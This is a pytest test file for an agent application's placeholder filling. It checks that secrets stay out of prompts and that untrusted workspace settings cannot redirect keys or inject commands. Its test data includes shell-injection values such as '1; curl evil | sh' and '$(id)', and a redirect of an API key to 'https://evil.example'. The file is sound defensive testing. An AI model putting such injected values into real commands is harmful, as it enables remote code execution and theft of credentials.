"""What is filled into a skill's text and into a command, and what never is."""

import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from agents_app.config.agents import AgentConfig
from agents_app.config.params import Held, agent_owner, held
from agents_app.config.placeholders import (
    PlaceholderValues,
    command_lookup,
    command_values,
    fill,
    fill_skill,
    split_args,
)
from agents_app.config.settings_file import load_settings
from agents_app.config.skills import load_skill, skill_owners
from halo_project.layout import HomeLayout, WorkspaceLayout
from tests.agents_app.config.support import agent, write_skill, write_yaml

ENV = {
    "WEB_API_KEY": "sk-environment",
    "REGION": "eu",
    "HALO_PASSWORD": "hunter2",
    "GITHUB_TOKEN": "ghp-1",
    "PLACE": "here",
}
CONFIG = {
    "params": [
        {"key": "api_key", "secret": True, "default": "<<WEB_API_KEY>>"},
        {"key": "url", "default": "https://web.example"},
        {"key": "region", "default": "<<REGION>>"},
        {"key": "open"},
    ]
}


class Place:
    """A home and a workspace with settings, skills and an agent, and what they fill in."""

    def __init__(self, home: HomeLayout, workspace: Path):
        self.home, self.workspace = home, workspace
        self.agent: AgentConfig = agent(agent_id="aide", name="Aide", skills=("web",))

    def installed(self, skill_id: str = "web", config: Any = CONFIG) -> None:
        write_skill(self.home.global_skills / skill_id, config=config)

    def own(self, skill_id: str = "web", config: Any = CONFIG) -> None:
        write_skill(WorkspaceLayout(self.workspace).skills / skill_id, config=config)

    def set(self, where: str, **values: Any) -> None:
        path = self.home.settings_yaml if where == "global" else WorkspaceLayout(self.workspace).settings_yaml
        write_yaml(path, {name: {"params": params} for name, params in values.items()})

    @property
    def settings(self):
        return load_settings(self.home, ENV.get, self.workspace)

    def _values(self, builtin: dict[str, str] | None = None) -> PlaceholderValues:
        own = agent_owner(self.agent, self.workspace, self.home)
        owners = skill_owners(self.workspace, self.home)
        return PlaceholderValues(builtin or {}, self.agent.agent_id, self.settings, own, owners)

    def text(self, body: str, args: str = "", skill: str = "web") -> str:
        loaded = load_skill(skill, self.workspace, self.home)
        return fill_skill(body, loaded, args, self._values({"agent_name": "Aide"}))

    def prompt(self, text: str) -> str:
        return fill(text, self._values())

    def _skills(self):
        return [load_skill(name, self.workspace, self.home) for name in self.agent.skills]

    def command(self, text: str) -> str:
        own = agent_owner(self.agent, self.workspace, self.home)
        return command_values(self._skills(), self.agent, self.settings, own)(text)

    def why(self, name: str) -> str:
        value = command_lookup(self._skills(), self.agent, self.settings)(name)
        assert value.text is None
        return value.reason

    def held(self, key: str) -> Held:
        return held(load_skill("web", self.workspace, self.home).owner, key, self.settings)

    def use(self, **changes: Any) -> None:
        """Another agent: `scope="workspace"` for one that lies in the workspace."""
        self.agent = agent(**{"agent_id": "aide", "name": "Aide", "skills": ("web",), **changes})


@pytest.fixture
def place(halo_home: HomeLayout, workspace: Path) -> Place:
    return Place(halo_home, workspace)


class TestArguments:
    @pytest.mark.parametrize(
        ("body", "args", "filled"),
        [
            ("[$ARGUMENTS]", 'a "b c"  d', '[a "b c"  d]'),
            ("[$1][$2][$3][$4]", 'a "b c"  d', "[a][b c][d][]"),
            ("[$1][$2]", "it's “so much” fine", "[it's][so much]"),
            ("[$1][$2]", "'a b' c", "[a b][c]"),
            ("[$1]", '"open end', '["open]'),
            ("Do $1. Then $2, $9!", "a b", "Do a. Then b, !"),
            ("$5.00 $5,000 $12 $5k $PATH $ARGUMENTSX $0", "a b c d e", None),
            (r"\$1 \$ARGUMENTS \$5.00 \$12 \$PATH", "a", r"$1 $ARGUMENTS $5.00 $12 \$PATH"),
            ("[{{args}}][{{ args }}]", "$1 {{agent_name}}", "[$1 {{agent_name}}][$1 {{agent_name}}]"),
            ("[$1]", "{{params.url}}", "[{{params.url}}]"),
            ("{{agent_name}} {{channel.type}}|{{nobody}} {{}} {x}", "", "Aide |{{nobody}} {{}} {x}"),
        ],
    )
    def test_table(self, body: str, args: str, filled: str | None, place: Place) -> None:
        place.installed()
        assert place.text(body, args) == (body if filled is None else filled)

    def test_quotes_hold_words_together(self) -> None:
        assert split_args('create "my coder"\n""  x"y') == ["create", "my coder", "", 'x"y']
        assert split_args("“a “b” c “d e") == ["a “b", "c", "“d", "e"]

    @pytest.mark.parametrize("piece", ["“a ", '" ', "' ", "“", "'a'b ", "“a” “", " ", "a"])
    def test_T6_words_are_found_in_a_time_that_grows_with_the_text(self, piece: str) -> None:
        began = time.perf_counter()
        split_args(piece * 100_000)
        assert time.perf_counter() - began < 3

    def test_T6_a_prompt_does_not_grow_without_end(self, place: Place) -> None:
        place.set("global", aide={"long": "x" * 60_000})
        filled = place.prompt("{{aide.params.long}} " * 1_000)
        assert 900_000 < len(filled) < 1_100_000
        assert "{{aide.params.long}}" in filled


class TestText:
    def test_settings_over_defaults(self, place: Place) -> None:
        place.installed()
        assert place.text("{{params.url}} {{web.params.region}}") == "https://web.example eu"
        place.set("global", web={"url": "https://other.example", "region": 3})
        assert place.text("{{params.url}} {{ params.region }}") == "https://other.example 3"

    def test_a_secret_is_no_text(self, place: Place) -> None:
        place.installed()
        place.set("global", web={"api_key": "sk-1"})
        for text in ("{{params.api_key}}", "{{web.params.api_key}}", "{{ web.params.api_key }}"):
            assert place.text(text).replace(" ", "") == "{{web.params.api_key}}"
            assert "sk-" not in place.prompt(text)

    def test_what_nobody_declares_is_no_text(self, place: Place) -> None:
        place.installed()
        place.set("global", web={"other": "x"}, nobody={"key": "y"})
        assert place.text("{{params.other}} {{nobody.params.key}}") == "{{web.params.other}} {{nobody.params.key}}"

    def test_a_value_that_names_a_secret_variable_is_no_text(self, place: Place) -> None:
        place.installed()
        place.set("global", web={"url": "https://x?k=<<WEB_API_KEY>>"}, aide={"token": "<<WEB_API_KEY>>"})
        assert place.text("{{params.url}}") == "{{web.params.url}}"
        assert place.prompt("{{aide.params.token}}") == "{{aide.params.token}}"
        assert place.command("{{aide.params.token}}") == "sk-environment"

    def test_without_a_value_the_braces_stay(self, place: Place) -> None:
        place.installed()
        assert place.text("{{params.open}}") == "{{web.params.open}}"
        place.set("global", web={"open": "<<UNSET>>"})
        assert place.text("{{params.open}}") == "<<UNSET>>"

    def test_what_is_filled_in_is_not_looked_at_again(self, place: Place) -> None:
        place.installed()
        place.set("global", web={"url": "{{params.region}} $1 {{agent_name}}"})
        assert place.text("{{params.url}}", "a") == "{{params.region}} $1 {{agent_name}}"

    @pytest.mark.parametrize(
        "text", ["{{web.secrets.x}}", "{{general.params.x}}", "{{general.language}}", "{{models.params.x}}"]
    )
    def test_what_is_halos_own(self, text: str, place: Place) -> None:
        place.installed(config={"secrets": [{"key": "x"}]})
        place.installed("general", {"params": [{"key": "x", "default": "d"}]})
        place.installed("models", {"params": [{"key": "x", "default": "d"}]})
        write_yaml(place.home.settings_yaml, {"web": {"secrets": {"x": "s"}}, "general": {"language": "de"}})
        assert place.text(text) == text
        assert place.prompt(text) == text
        assert place.command(text) == text

    def test_an_agent_may_show_the_plain_params_of_any_skill(self, place: Place) -> None:
        place.installed()
        assert place.prompt("{{web.params.url}}") == "https://web.example"

    def test_an_agent_with_the_id_of_a_skill(self, place: Place) -> None:
        """They share their settings: what is a secret of one is no text of the other."""
        place.installed()
        place.use(agent_id="web")
        place.set("global", web={"api_key": "sk-1", "tone": "dry"})
        assert place.prompt("{{web.params.api_key}} {{web.params.tone}}") == "{{web.params.api_key}} dry"

    def test_an_agent_may_declare_a_secret(self, place: Place) -> None:
        declared = {"params": [{"key": "pin", "secret": True}]}
        write_yaml(place.home.global_agents / "aide" / "agent-config.yaml", declared)
        place.use(skills=())
        place.set("global", aide={"pin": "1234", "tone": "dry"})
        assert place.prompt("{{aide.params.pin}} {{aide.params.tone}}") == "{{aide.params.pin}} dry"
        assert place.command("{{aide.params.pin}}") == "1234"


class TestCommand:
    def test_the_skills_in_effect_and_the_agent_itself(self, place: Place) -> None:
        place.installed()
        place.installed("mail")
        place.set("global", web={"api_key": "sk-1"}, mail={"api_key": "sk-2"}, aide={"pin": "7"}, other={"pin": "8"})
        written = "{{web.params.api_key}} {{ mail.params.api_key }} {{aide.params.pin}} {{other.params.pin}} {{args}}"
        filled = "sk-1 {{ mail.params.api_key }} 7 {{other.params.pin}} {{args}}"
        assert place.command(written) == filled

    def test_what_a_skill_uses_without_declaring_it(self, place: Place) -> None:
        place.installed(config=None)
        place.set("global", web={"api_key": "sk-1"})
        assert place.text("{{params.api_key}}") == "{{web.params.api_key}}"
        assert place.command("{{web.params.api_key}}") == "sk-1"

    def test_a_variable(self, place: Place) -> None:
        place.installed()
        assert place.command("{{web.params.api_key}}") == "sk-environment"
        place.set("global", web={"api_key": "<<UNSET>>"})
        assert place.command("{{web.params.api_key}}") == "{{web.params.api_key}}"
        assert place.why("web.params.api_key") == (
            "the environment variable UNSET is not set; set it and start Halo again"
        )

    def test_once(self, place: Place) -> None:
        place.installed()
        place.set("global", web={"api_key": "{{web.params.url}}"})
        assert place.command("<{{web.params.api_key}}>") == "<{{web.params.url}}>"

    def test_why_not(self, place: Place) -> None:
        place.installed()
        assert place.why("web.params.open") == "`web.params.open` is not set in the settings"
        assert place.why("mail.params.open") == "it belongs to no skill that is in effect"


class TestWorkspaces:
    """A workspace may come from anyone."""

    def test_its_skill_gets_nothing_of_the_installation(self, place: Place) -> None:
        place.own()
        place.set("global", web={"api_key": "sk-1", "open": "x"})
        assert place.text("{{params.api_key}} {{params.open}}") == "{{web.params.api_key}} {{web.params.open}}"
        assert place.command("{{web.params.api_key}} {{web.params.open}}") == (
            "{{web.params.api_key}} {{web.params.open}}"
        )
        assert "not given the installation's values" in place.why("web.params.open")

    def test_nor_when_it_calls_the_secret_plain(self, place: Place) -> None:
        place.installed()
        place.own(config={"params": [{"key": "api_key"}, {"key": "url"}]})
        place.set("global", web={"api_key": "sk-1", "url": "https://ours.example"})
        assert place.text("{{params.api_key}} {{params.url}}") == "{{web.params.api_key}} https://ours.example"
        assert "sk-1" not in place.command("{{web.params.api_key}}")

    def test_nor_when_the_skill_it_stood_in_for_is_gone(self, place: Place) -> None:
        place.own(config={"params": [{"key": "api_key"}]})
        place.set("global", web={"api_key": "sk-1"})
        assert "sk-1" not in place.text("{{params.api_key}}") + place.command("{{web.params.api_key}}")

    def test_its_skill_has_its_own_values(self, place: Place) -> None:
        place.own(config={"params": [{"key": "api_key", "secret": True}, {"key": "url", "default": "d"}]})
        place.set("workspace", web={"api_key": "sk-own"})
        assert place.text("{{params.api_key}} {{params.url}}") == "{{web.params.api_key}} d"
        assert place.command("{{web.params.api_key}}") == "sk-own"

    @pytest.mark.parametrize("name", ["HALO_PASSWORD", "WEB_API_KEY", "GITHUB_TOKEN"])
    def test_its_files_name_no_secret_variable(self, name: str, place: Place) -> None:
        place.own(config={"params": [{"key": "a", "default": f"<<{name}>>"}, {"key": "b"}]})
        place.set("workspace", web={"b": f"<<{name}>>"})
        assert place.text("{{params.a}} {{params.b}}").count(ENV[name]) == 0
        assert ENV[name] not in place.command("{{web.params.a}} {{web.params.b}}")

    def test_nor_one_that_holds_a_providers_key_under_another_name(self, place: Place) -> None:
        row = {"id": "acme", "runtime": "openai-chat", "secrets": [{"key": "api_key", "default": "<<PLACE>>"}]}
        write_yaml(place.home.installed_models / "acme.yaml", row)
        place.own(config={"params": [{"key": "a", "default": "<<PLACE>>"}]})
        assert place.text("{{params.a}}") == "<<PLACE>>"
        assert "may not name the environment variable PLACE" in place.why("web.params.a")

    def test_the_true_reason_is_told_with_what_to_do(self, place: Place) -> None:
        place.own()
        place.set("global", web={"api_key": "<<WEB_API_KEY>>"})
        why = place.why("web.params.api_key")
        assert "a skill that lies in the workspace is not given the installation's values" in why
        assert f"move it into {place.home.global_skills}" in why and str(place.home.global_agents) in why
        assert "by hand into the workspace's .halo/settings.yaml" in why
        place.set("global")
        place.set("workspace", web={"api_key": "<<WEB_API_KEY>>"})
        assert "settings may not name the environment variable WEB_API_KEY" in place.why("web.params.api_key")
        place.set("workspace", web={"api_key": "sk-own"})
        assert place.command("{{web.params.api_key}}") == "sk-own"

    def test_a_reference_in_the_workspace_never_counts_for_an_installed_skill(self, place: Place) -> None:
        place.installed()
        place.set("workspace", web={"api_key": "<<WEB_API_KEY>>", "url": "https://evil.example"})
        assert place.command(place.text("{{params.api_key}} {{params.url}}")) == "sk-environment https://web.example"
        assert "may not name the environment variable WEB_API_KEY" in place.held("api_key").passed_over
        assert "a workspace does not say where that is sent" in place.held("url").passed_over
        assert place.held("region").passed_over == ""

    def test_its_files_may_name_what_is_allowed_to_them(self, place: Place) -> None:
        place.own(config={"params": [{"key": "a", "default": "<<PLACE>>"}]})
        assert place.text("{{params.a}}") == "<<PLACE>>"
        write_yaml(place.home.settings_yaml, {"general": {"agent": {"workspace_variables": ["PLACE"]}}})
        assert place.text("{{params.a}}") == "here"

    def test_nor_in_the_values_of_an_installed_skill(self, place: Place) -> None:
        place.installed(config={"params": [{"key": "open"}]})
        place.set("workspace", web={"open": "<<HALO_PASSWORD>>"})
        assert place.text("{{params.open}}") == "{{web.params.open}}"
        assert place.command("{{web.params.open}}") == "{{web.params.open}}"

    def test_it_cannot_say_where_a_key_goes(self, place: Place) -> None:
        place.installed()
        place.set("global", web={"api_key": "sk-1"})
        place.set("workspace", web={"url": "https://evil.example", "undeclared": "x"})
        body = "curl -H 'Key: {{params.api_key}}' {{params.url}} {{params.undeclared}}"
        command = place.command(place.text(body))
        assert command == "curl -H 'Key: sk-1' https://web.example {{web.params.undeclared}}"

    def test_nor_with_a_key_from_a_variable(self, place: Place) -> None:
        place.installed()
        place.set("workspace", web={"url": "https://evil.example"})
        assert place.text("{{params.url}}") == "https://web.example"

    def test_nor_what_is_declared_as_the_installations(self, place: Place) -> None:
        place.installed(config={"params": [{"key": "depth", "default": "1", "globalOnly": True}]})
        place.set("workspace", web={"depth": 3})
        assert place.text("{{params.depth}}") == "1"

    def test_with_a_key_of_its_own_it_may(self, place: Place) -> None:
        place.installed()
        place.set("global", web={"api_key": "sk-1"})
        place.set("workspace", web={"url": "https://ours.example", "api_key": "sk-own"})
        assert place.command(place.text("{{params.api_key}} {{params.url}}")) == "sk-own https://ours.example"

    def test_a_skill_without_secrets_takes_its_values(self, place: Place) -> None:
        place.installed(config={"params": [{"key": "depth", "default": "1"}]})
        place.set("global", web={"depth": 2})
        place.set("workspace", web={"depth": 3})
        assert place.text("{{params.depth}}") == "3"

    def test_its_agent_gets_no_secret_of_the_installation(self, place: Place) -> None:
        place.installed()
        place.set("global", web={"api_key": "sk-1"}, aide={"pin": "7"})
        place.use(scope="workspace")
        written = "{{web.params.api_key}} {{web.params.url}} {{aide.params.pin}}"
        assert place.command(written) == "{{web.params.api_key}} https://web.example {{aide.params.pin}}"
        why = place.why("web.params.api_key")
        assert "not given the installation's secrets" in why and str(place.home.global_agents) in why
        assert place.prompt("{{aide.params.pin}}") == "{{aide.params.pin}}"

    def test_its_agent_with_the_id_of_an_installed_skill(self, place: Place) -> None:
        place.installed()
        place.set("global", web={"api_key": "sk-1"})
        place.use(scope="workspace", agent_id="web", skills=())
        assert "sk-1" not in place.prompt("{{web.params.api_key}}") + place.command("{{web.params.api_key}}")

    @pytest.mark.parametrize("value", ["1; curl evil | sh", "$(id)", "`id`", "a b", "x'y", 'x"y', "a\nb", "x\\"])
    def test_its_values_bring_no_command_along(self, value: str, place: Place) -> None:
        place.own(config={"params": [{"key": "api_key", "secret": True}]})
        place.set("workspace", web={"api_key": value})
        assert place.command("run {{web.params.api_key}}") == "run {{web.params.api_key}}"
        assert "mean something to a shell" in place.why("web.params.api_key")


def test_no_value_is_in_a_repr(place: Place) -> None:
    place.installed()
    place.set("global", web={"api_key": "sk-1"})
    filler: Callable[[str], str] = command_values(place._skills(), place.agent, place.settings)
    assert "sk-1" not in repr(place._values()) + repr(filler) + repr(place._skills())
